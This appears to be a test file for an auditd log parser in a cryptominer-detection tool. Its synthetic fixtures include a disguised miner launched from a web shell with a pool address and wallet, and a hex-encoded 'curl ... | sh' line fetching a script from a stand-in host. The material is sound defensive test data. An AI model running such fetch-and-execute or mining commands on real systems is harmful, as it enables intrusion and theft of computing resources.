import { test } from "node:test";
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { parseFileWith, parseWith, runDetector, sharedFixture, sniffWith } from "../../../test-helpers/index.js";
import { entryVectorDetector } from "../../../detect/detectors/host/entry-vector.js";
import { auditdSource, MAX_PENDING_EVENTS } from "./source.js";
import { decodeText, parseAuditLine } from "./record.js";
import { decodeSockaddr } from "./sockaddr.js";

/** Upper-case hex, as the kernel encodes an untrusted string (audit_log_n_untrustedstring). */
const hex = (s: string) => Buffer.from(s, "utf8").toString("hex").toUpperCase();

// A miner started from a web shell and its pool connection, as the kernel writes them on x86-64 (RAW format).
const WALLET = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
const MINER_LOG = [
  `type=SYSCALL msg=audit(1795038072.120:9001): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=812 pid=4242 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="kswapd0" exe=${hex("/tmp/.X2-x-unix/.rsync/a/kswapd0")} key="exec"`,
  `type=EXECVE msg=audit(1795038072.120:9001): argc=4 a0="./kswapd0" a1=${hex("-o pool.supportxmr.com:443")} a2="-u" a3="${WALLET}"`,
  `type=CWD msg=audit(1795038072.120:9001): cwd=${hex("/tmp/.X2-x-unix/.rsync/a b")}`,
  `type=PATH msg=audit(1795038072.120:9001): item=0 name="./kswapd0" inode=261214 dev=ca:03 mode=0100755 ouid=33 ogid=33 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`,
  `type=PROCTITLE msg=audit(1795038072.120:9001): proctitle=${hex("./kswapd0\0-o pool.supportxmr.com:443\0-u\0" + WALLET)}`,
  "type=EOE msg=audit(1795038072.120:9001): ",
  // A user-space record between the two kernel events: sudo's USER_CMD, a process event of its own.
  "type=USER_CMD msg=audit(1795038072.900:9002): pid=812 uid=0 auid=1000 ses=4 msg='cwd=\"/root\" cmd=6C73 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'",
  `type=SYSCALL msg=audit(1795038073.500:9003): arch=c000003e syscall=42 success=no exit=-115 a0=7 a1=7ffd a2=10 a3=0 items=0 ppid=812 pid=4242 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="kswapd0" exe="/tmp/.X2-x-unix/.rsync/a/kswapd0" key="net"`,
  // AF_INET 141.94.96.144:3333
  "type=SOCKADDR msg=audit(1795038073.500:9003): saddr=02000D058D5E60900000000000000000",
  "type=PROCTITLE msg=audit(1795038073.500:9003): proctitle=\"./kswapd0\"",
  "type=EOE msg=audit(1795038073.500:9003): ",
].join("\n");

test("auditd: an exec event joins SYSCALL, EXECVE (hex argument), CWD and PROCTITLE into one process event", async () => {
  const { events, issues } = await parseWith(auditdSource, MINER_LOG, "var/log/audit/audit.log");
  assert.deepEqual(issues, []);
  assert.equal(events.length, 3);
  const exec = events[0]!;
  assert.deepEqual(exec["event.category"], ["process"]);
  assert.equal(exec["event.dataset"], "auditd");
  assert.equal(exec["minerhunt.line"], 1);
  assert.equal(exec["@timestamp"], "2026-11-18T21:41:12.120Z");
  assert.equal(exec["event.action"], "execve");
  assert.equal(exec["process.pid"], 4242);
  assert.equal(exec["process.parent.pid"], 812);
  assert.equal(exec["process.executable"], "/tmp/.X2-x-unix/.rsync/a/kswapd0", "exe= written in hex");
  assert.equal(exec["process.name"], "kswapd0");
  assert.deepEqual(exec["process.args"], ["./kswapd0", "-o pool.supportxmr.com:443", "-u", WALLET]);
  assert.equal(exec["process.args_count"], 4);
  assert.equal(exec["process.command_line"], `./kswapd0 -o pool.supportxmr.com:443 -u ${WALLET}`);
  assert.equal(exec["process.title"], `./kswapd0 -o pool.supportxmr.com:443 -u ${WALLET}`, "PROCTITLE NULs become spaces");
  assert.equal(exec["process.working_directory"], "/tmp/.X2-x-unix/.rsync/a b");
  assert.equal(exec["user.id"], "33");
  assert.equal(exec["user.audit.id"], undefined, "auid 4294967295 is unset");
  assert.deepEqual(exec["tags"], ["exec"]);
  assert.deepEqual(exec["auditd.message_type"], ["SYSCALL", "EXECVE", "CWD", "PROCTITLE"]);

  const sudo = events[1]!;
  assert.deepEqual([sudo["minerhunt.line"], sudo["process.command_line"], sudo["process.parent.name"], sudo["process.working_directory"], sudo["user.audit.id"]],
    [7, "ls", "sudo", "/root", "1000"]);
  const net = events[2]!;
  assert.deepEqual(net["event.category"], ["network"]);
  assert.equal(net["event.action"], "connect");
  assert.equal(net["destination.ip"], "141.94.96.144");
  assert.equal(net["destination.port"], 3333);
  assert.equal(net["network.type"], "ipv4");
  assert.equal(net["event.outcome"], "failure", "success=no (EINPROGRESS on a non-blocking socket)");
  assert.equal(net["process.pid"], 4242);
  assert.equal(net["process.title"], "./kswapd0");
  assert.equal(net["minerhunt.line"], 8);
});

test("auditd: records of two events interleaved are still joined by serial", async () => {
  const lines = MINER_LOG.split("\n");
  // SYSCALL of 9003 arrives between the records of 9001.
  const shuffled = [lines[0], lines[7], lines[1], lines[8], lines[2], lines[3], lines[4], lines[5], lines[9], lines[10]].join("\n");
  const { events, issues } = await parseWith(auditdSource, shuffled);
  assert.deepEqual(issues, []);
  assert.deepEqual(events.map((e) => e["event.category"]), [["process"], ["network"]]);
  assert.equal(events[0]!["process.args_count"], 4);
});

test("auditd: a long argument split as a2_len/a2[0]/a2[1] across EXECVE records is joined as bytes", async () => {
  const long = `ü${"x".repeat(20)}`;
  const encoded = hex(long);
  const cut = 1; // inside the two bytes of "ü"
  const log = [
    "type=SYSCALL msg=audit(1700000000.001:77): arch=c00000b7 syscall=221 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=1 pid=99 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=2 comm=\"sh\" exe=\"/usr/bin/dash\" key=(null)",
    `type=EXECVE msg=audit(1700000000.001:77): argc=3 a0="sh" a1="-c" a2_len=${long.length}`,
    `type=EXECVE msg=audit(1700000000.001:77): a2[0]=${encoded.slice(0, cut * 2)}`,
    `type=EXECVE msg=audit(1700000000.001:77): a2[1]=${encoded.slice(cut * 2)}`,
    "type=EOE msg=audit(1700000000.001:77): ",
  ].join("\n");
  const { events, issues } = await parseWith(auditdSource, log);
  assert.deepEqual(issues, []);
  assert.deepEqual(events[0]!["process.args"], ["sh", "-c", long]);
  assert.equal(events[0]!["event.action"], "execve", "aarch64 syscall 221 is execve");
});

test("auditd: a truncated record and a missing argument are reported with file and line; the rest is read", async () => {
  const lines = MINER_LOG.split("\n");
  const log = [
    lines[0],
    // cut mid-value: argc=4 but the record ends inside a3's quotes
    `type=EXECVE msg=audit(1795038072.120:9001): argc=4 a0="./kswapd0" a1="-o" a2="pool.supportxmr.com:443" a3="44AFF`,
    "type=EXECVE msg=audit(1795038072.1",
    ...lines.slice(2),
  ].join("\n");
  const { events, issues } = await parseWith(auditdSource, log, "audit.log");
  assert.equal(events.length, 3, "both kernel events (and sudo's USER_CMD) are still read");
  assert.deepEqual(issues.map((i) => [i.file, i.line]), [["audit.log", 2], ["audit.log", 3]]);
  assert.match(issues[0]!.message, /a3 has no closing quote/);
  assert.match(issues[1]!.message, /cut short inside its msg=audit/);
  // With the EXECVE lost, the command line comes from PROCTITLE.
  assert.equal(events[0]!["process.command_line"], `./kswapd0 -o pool.supportxmr.com:443 -u ${WALLET}`);
});

test("auditd: an EXECVE whose argc promises more arguments than it holds is reported", async () => {
  const log = "type=EXECVE msg=audit(1700000000.001:5): argc=3 a0=\"xmrig\" a1=\"-o\"\ntype=EOE msg=audit(1700000000.001:5): \n";
  const { events, issues } = await parseWith(auditdSource, log);
  assert.deepEqual(events[0]!["process.args"], ["xmrig", "-o", ""]);
  assert.equal(issues.length, 1);
  assert.equal(issues[0]!.line, 1);
  assert.match(issues[0]!.message, /argc=3 but 1 argument\(s\) are missing/);
});

test("auditd: events whose EOE never comes are flushed when the table is full and at the end, with their line", async () => {
  const event = (serial: number, eoe: boolean) => [
    `type=EXECVE msg=audit(1700000000.000:${serial}): argc=1 a0="true"`,
    ...(eoe ? [`type=EOE msg=audit(1700000000.000:${serial}): `] : []),
  ];
  const lines = [...event(1, true), ...event(2, false)];
  for (let s = 3; s < MAX_PENDING_EVENTS + 4; s++) lines.push(...event(s, s === 3));
  const { events, issues } = await parseWith(auditdSource, lines.join("\n"));
  assert.equal(events.length, MAX_PENDING_EVENTS + 3, "every event is read");
  assert.match(issues[0]!.message, /audit\(1700000000.000:2\) has no EOE record \(4096 events were waiting\)/);
  assert.equal(issues[0]!.line, 3);
  assert.match(issues[1]!.message, /audit\(1700000000.000:4\) has no EOE record \(the input ended\)/);
  assert.equal(issues[1]!.line, 6);
  // 4097 events without EOE: 20 issues with their lines, then one count, not thousands of lines.
  assert.equal(issues.length, 21);
  assert.match(issues[20]!.message, /^4077 more event\(s\) had no EOE record/);
});

test("auditd: ENRICHED format (names after 0x1D) and node= prefix, from Laurel's test data", async (t) => {
  const path = sharedFixture(t, "auditd/laurel-record-execve.log");
  if (!path) return;
  const { events, issues } = await parseFileWith(auditdSource, path);
  assert.deepEqual(issues, []);
  assert.equal(events.length, 1);
  const e = events[0]!;
  const laurel = JSON.parse(readFileSync(sharedFixture(t, "auditd/laurel-record-execve.laurel.json")!, "utf8")) as {
    SYSCALL: { pid: number; ppid: number; exe: string; UID: string; AUID: string }; EXECVE: { ARGV: string[] }; CWD: { cwd: string };
  };
  assert.equal(e["host.name"], "work");
  assert.equal(e["process.pid"], laurel.SYSCALL.pid);
  assert.equal(e["process.parent.pid"], laurel.SYSCALL.ppid);
  assert.equal(e["process.executable"], laurel.SYSCALL.exe);
  assert.deepEqual(e["process.args"], laurel.EXECVE.ARGV);
  assert.equal(e["process.working_directory"], laurel.CWD.cwd);
  assert.equal(e["user.name"], laurel.SYSCALL.UID);
  assert.equal(e["user.audit.name"], laurel.SYSCALL.AUID);
  assert.equal(e["auditd.data.syscall"], "execve");
});

test("auditd: Laurel's perl reverse shell: hex EXECVE argument and PROCTITLE decoded as Laurel decodes them", async (t) => {
  const path = sharedFixture(t, "auditd/laurel-record-perl-reverse-shell.log");
  if (!path) return;
  const { events, issues } = await parseFileWith(auditdSource, path);
  assert.deepEqual(issues, []);
  const laurel = JSON.parse(readFileSync(sharedFixture(t, "auditd/laurel-record-perl-reverse-shell.laurel.json")!, "utf8")) as {
    EXECVE: { ARGV: string[] }; PROCTITLE: { ARGV: string[] };
  };
  assert.deepEqual(events[0]!["process.args"], laurel.EXECVE.ARGV);
  assert.equal(events[0]!["process.title"], laurel.PROCTITLE.ARGV.join(" "));
});

test("auditd: Filebeat's hex-argument EXECVE gives the args Filebeat's auditd module expects", async (t) => {
  const path = sharedFixture(t, "auditd/beats-filebeat-execve-hex-arg.log");
  if (!path) return;
  const expected = (JSON.parse(readFileSync(sharedFixture(t, "auditd/beats-filebeat-execve-hex-arg-expected.ecs.json")!, "utf8")) as Record<string, unknown>[])[0]!;
  const { events, issues } = await parseFileWith(auditdSource, path);
  assert.deepEqual(issues, [], "a file without EOE records raises no per-event issue");
  const e = events[0]!;
  assert.equal(e["@timestamp"], expected["@timestamp"]);
  assert.deepEqual(e["process.args"], expected["process.args"]);
  assert.equal(e["process.args_count"], expected["process.args_count"]);
  assert.equal(e["auditd.sequence"], expected["auditd.log.sequence"]);
  assert.equal(e["event.action"], expected["event.action"]);
});

test("auditd: connect() records from Laurel's test data give IPv4 and IPv6 destinations", async (t) => {
  const path = sharedFixture(t, "auditd/laurel-record-connect.log");
  if (!path) return;
  const { events, issues } = await parseFileWith(auditdSource, path);
  assert.deepEqual(issues, []);
  assert.deepEqual(events.map((e) => [e["destination.ip"], e["destination.port"], e["event.outcome"], e["process.executable"]]), [
    ["127.0.0.1", 11211, "success", "/usr/bin/php"],
    ["::1", 11211, "failure", "/usr/bin/php"],
  ]);
});

interface GoldenRecord { record_type: string; sequence: number; data: Record<string, string> }

test("auditd: go-libaudit's RHEL7 log: EXECVE arguments, hex CWD/exe and SOCKADDR match go-libaudit's golden parse", async (t) => {
  const path = sharedFixture(t, "auditd/go-libaudit-audit-rhel7.log");
  if (!path) return;
  const golden = JSON.parse(readFileSync(`${path}.golden.json`, "utf8")) as (GoldenRecord | null)[];
  const lines = readFileSync(path, "utf8").split("\n");
  const { events, issues } = await parseFileWith(auditdSource, path);
  // Line 31 is "type=UNKNOWN[1329] msg=?": no stamp, reported with its line.
  assert.deepEqual(issues.map((i) => i.line), [31]);
  const execs = golden.filter((g): g is GoldenRecord => g?.record_type === "execve");
  assert.equal(execs.length, 4);
  for (const g of execs) {
    const e = events.find((ev) => ev["auditd.sequence"] === g.sequence);
    assert.ok(e, `event ${g.sequence}`);
    const argc = Number(g.data.argc);
    assert.deepEqual(e["process.args"], Array.from({ length: argc }, (_, i) => g.data[`a${i}`]), `args of ${g.sequence}`);
  }
  golden.forEach((g, i) => {
    const parsed = parseAuditLine(lines[i]!, i + 1);
    if ("error" in parsed || g === null) return;
    const r = parsed.record;
    if (g.record_type === "cwd") assert.equal(decodeText(r.fields.get("cwd")), g.data.cwd);
    if (g.record_type === "user_cmd") {
      const e = events.find((ev) => ev["auditd.sequence"] === g.sequence && ev["event.action"] === "sudo");
      assert.deepEqual([e?.["process.command_line"], e?.["process.working_directory"], e?.["process.parent.pid"]], [g.data.cmd, g.data.cwd, Number(g.data.pid)]);
    }
    if (g.record_type === "syscall") assert.equal(decodeText(r.fields.get("exe")), g.data.exe, `exe on line ${i + 1}`);
    if (g.record_type === "sockaddr") {
      const address = decodeSockaddr(r.fields.get("saddr")!.value);
      if (g.data.family === "ipv4" || g.data.family === "ipv6") {
        assert.deepEqual(address, { family: g.data.family === "ipv4" ? "inet" : "inet6", ip: g.data.addr, port: Number(g.data.port) });
      } else if (g.data.family === "unix") {
        assert.deepEqual(address, { family: "unix", path: g.data.path });
      } else {
        assert.equal(address?.family, "other");
      }
    }
  });
});

test("auditd: Laurel's shell trace (comment header, RAW) reads every exec", async (t) => {
  const path = sharedFixture(t, "auditd/laurel-shell-proc-trace.log");
  if (!path) return;
  const { events, issues } = await parseFileWith(auditdSource, path);
  assert.deepEqual(issues, []);
  const commands = events.filter((e) => (e["event.category"] as string[])[0] === "process").map((e) => e["process.name"]);
  assert.ok(commands.includes("sed") && commands.includes("grep") && commands.includes("echo"), commands.join(","));
  assert.ok(await sniffWith(auditdSource, readFileSync(path)) >= 0.9, "sniffed past the # comments");
});

test("auditd: sniffed from the first records; ps output and JSON are not audit logs", async () => {
  assert.ok(await sniffWith(auditdSource, MINER_LOG) >= 0.9);
  assert.equal(await sniffWith(auditdSource, "USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\n"), 0);
  assert.equal(await sniffWith(auditdSource, '{"type":"SYSCALL"}\n'), 0);
});

test("auditd: an exec names its parent when the parent's records came earlier (redis-server → sh -c 'curl | sh')", async () => {
  const log = [
    'type=SYSCALL msg=audit(1795038000.000:100): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=1 pid=812 auid=4294967295 uid=999 gid=999 euid=999 suid=999 fsuid=999 egid=999 sgid=999 fsgid=999 tty=(none) ses=4294967295 comm="redis-server" exe="/usr/bin/redis-server" key="exec"',
    'type=EXECVE msg=audit(1795038000.000:100): argc=2 a0="/usr/bin/redis-server" a1="127.0.0.1:6379"',
    "type=EOE msg=audit(1795038000.000:100): ",
    'type=SYSCALL msg=audit(1795038060.000:200): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=812 pid=9001 auid=4294967295 uid=999 gid=999 euid=999 suid=999 fsuid=999 egid=999 sgid=999 fsgid=999 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key="exec"',
    `type=EXECVE msg=audit(1795038060.000:200): argc=3 a0="sh" a1="-c" a2=${hex("curl -fsSL http://198.51.100.9/init.sh | sh")}`,
    "type=EOE msg=audit(1795038060.000:200): ",
    'type=SYSCALL msg=audit(1795038061.000:300): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=4444 pid=9002 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=2 comm="ls" exe="/usr/bin/ls" key="exec"',
    'type=EXECVE msg=audit(1795038061.000:300): argc=1 a0="ls"',
    "type=EOE msg=audit(1795038061.000:300): ",
  ].join("\n");
  const { events } = await parseWith(auditdSource, log);
  assert.equal(events[0]!["process.parent.name"], undefined, "pid 1 never appeared");
  assert.equal(events[1]!["process.parent.name"], "redis-server");
  assert.equal(events[1]!["process.parent.executable"], "/usr/bin/redis-server");
  assert.equal(events[2]!["process.parent.name"], undefined);
  const findings = runDetector(entryVectorDetector, events);
  assert.equal(findings.length, 1, "a service that runs a downloaded script is an entry vector");
  assert.match(findings[0]!.title, /^redis-server ran a downloaded script/);
});
